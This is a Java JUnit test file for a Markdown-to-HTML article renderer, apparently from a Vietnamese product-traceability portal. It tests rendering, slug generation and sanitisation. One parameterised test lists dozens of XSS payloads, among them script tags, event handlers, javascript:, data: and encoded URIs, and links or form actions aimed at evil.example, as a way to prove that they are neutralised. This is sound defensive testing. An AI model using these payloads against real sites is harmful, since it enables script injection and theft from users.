package vn.gov.cantho.check.portal.articles;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.gov.cantho.check.contract.article.ArticleHtml;

final class ArticleMarkdownTest {

    /** The only tags there are, with the only attributes. */
    private static final Pattern OURS = Pattern.compile(
            "</?(h2|h3|p|blockquote|ol|ul|li|strong|em)>|<br>|</a>|<a href=\"(https://[^\"<>\\s]+\" rel=\"noopener noreferrer|/(?!/)[^\"<>\\s]*)\">");

    @Test
    void text_ofEveryKind_becomesItsBlocks() {
        assertThat(html("""
                # Cách quét

                Mở máy ảnh,
                đưa vào mã.

                ### Bước nhỏ
                - một **đậm**
                - hai *nghiêng*

                1. đầu
                2. sau

                > lời

                Xem [quốc gia](https://truyxuat.gov.vn) và [danh sách](/products).
                """))
                .isEqualTo("<h2>Cách quét</h2><p>Mở máy ảnh,<br>đưa vào mã.</p><h3>Bước nhỏ</h3>"
                        + "<ul><li>một <strong>đậm</strong></li><li>hai <em>nghiêng</em></li></ul>"
                        + "<ol><li>đầu</li><li>sau</li></ol><blockquote>lời</blockquote>"
                        + "<p>Xem <a href=\"https://truyxuat.gov.vn\" rel=\"noopener noreferrer\">quốc gia</a>"
                        + " và <a href=\"/products\">danh sách</a>.</p>");
    }

    @Test
    void listInAList_becomesMoreOfTheSame() {
        assertThat(html("- a\n  - b\n    - c\n- d")).isEqualTo("<ul><li>a</li><li>b</li><li>c</li><li>d</li></ul>");
    }

    @Test
    void firstHeading_isASectionWhateverWasTyped() {
        assertThat(html("#### Sâu\n\n###### Sâu nữa")).isEqualTo("<h2>Sâu</h2><h3>Sâu nữa</h3>");
    }

    @Test
    void refusedLink_isNamedAndItsWordsStay() {
        var reading = ArticleMarkdown.read("Bấm [vào đây](http://a.vn) và ![ảnh](/media/x.jpg)");

        assertThat(reading.refusedLinks()).containsExactly("http://a.vn", "/media/x.jpg");
        assertThat(ArticleHtml.of(reading.blocks())).isEqualTo("<p>Bấm vào đây và ảnh</p>");
    }

    @ParameterizedTest
    @CsvSource({
        "'Nghị định 37/2026/NĐ-CP: hộ chiếu số của sản phẩm', nghi-dinh-37-2026-nd-cp-ho-chieu-so-cua-san-pham",
        "'  «Đồng Tháp» – ƯƠM ',                              dong-thap-uom",
        "'???',                                                bai"
    })
    void title_becomesTheWordsOfAnAddress(String title, String words) {
        assertThat(ArticleSlug.of(title)).isEqualTo(words);
    }

    @Test
    void longTitle_isCutBetweenWords() {
        assertThat(ArticleSlug.of("truy xuất nguồn gốc ".repeat(10)))
                .hasSizeLessThanOrEqualTo(70)
                .endsWith("-truy-xuat");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content=0;url=//evil.example>",
                "<base href=//evil.example/>",
                "<form action=//evil.example><input name=p></form>",
                "<object data=//evil.example></object>",
                "<embed src=//evil.example>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><script>alert(1)</script>",
                "</p><script>alert(1)</script>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x]( javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](//evil.example)",
                "[x](///evil.example)",
                "[x](/\\evil.example)",
                "[x](https://a.vn/\"onmouseover=alert(1))",
                "[x](https://a.vn/'onmouseover='alert(1))",
                "[x](https://check.cantho.gov.vn@evil.example)",
                "[x][1]\n\n[1]: javascript:alert(1) \"t\"",
                "[x](https://a.vn \"\\\" onclick=alert(1) \\\"\")",
                "<javascript:alert(1)>",
                "<https://a.vn/\"><script>alert(1)</script>>",
                "![x](javascript:alert(1))",
                "![x\" onerror=\"alert(1)](https://a.vn/x.png)",
                "`<script>alert(1)</script>`",
                "```html\n<script>alert(1)</script>\n```",
                "    <script>alert(1)</script>",
                "**<script>alert(1)</script>**",
                "# <img src=x onerror=alert(1)>",
                "- <img src=x onerror=alert(1)>",
                "> <img src=x onerror=alert(1)>",
                "[<img src=x onerror=alert(1)>](https://a.vn)",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script\\>alert(1)\\</script\\>",
                "{{constructor.constructor('alert(1)')()}}",
                "\u202Etpircs\u202C<b>\u0000"
            })
    void hostileText_yieldsNoTagAndNoAttributeButOurs(String text) {
        var rest = OURS.matcher(html(text)).replaceAll("");

        assertThat(rest).doesNotContain("<", ">", "\"", "'");
        assertThat(html(text)).doesNotContainIgnoringCase("href=\"javascript").doesNotContain("evil.example\"");
    }

    @Test
    void deepNesting_isReadAtOnceAndWithinTheStack() {
        for (var piece : new String[] {"> ", "- ", "*", "[", "**a ", "1. ", "![", "`", "<"}) {
            assertThat(html(piece.repeat(ArticleRules.TEXT_MAX / piece.length())))
                    .isNotNull();
        }
    }

    private static String html(String text) {
        return ArticleHtml.of(ArticleMarkdown.read(text).blocks());
    }
}
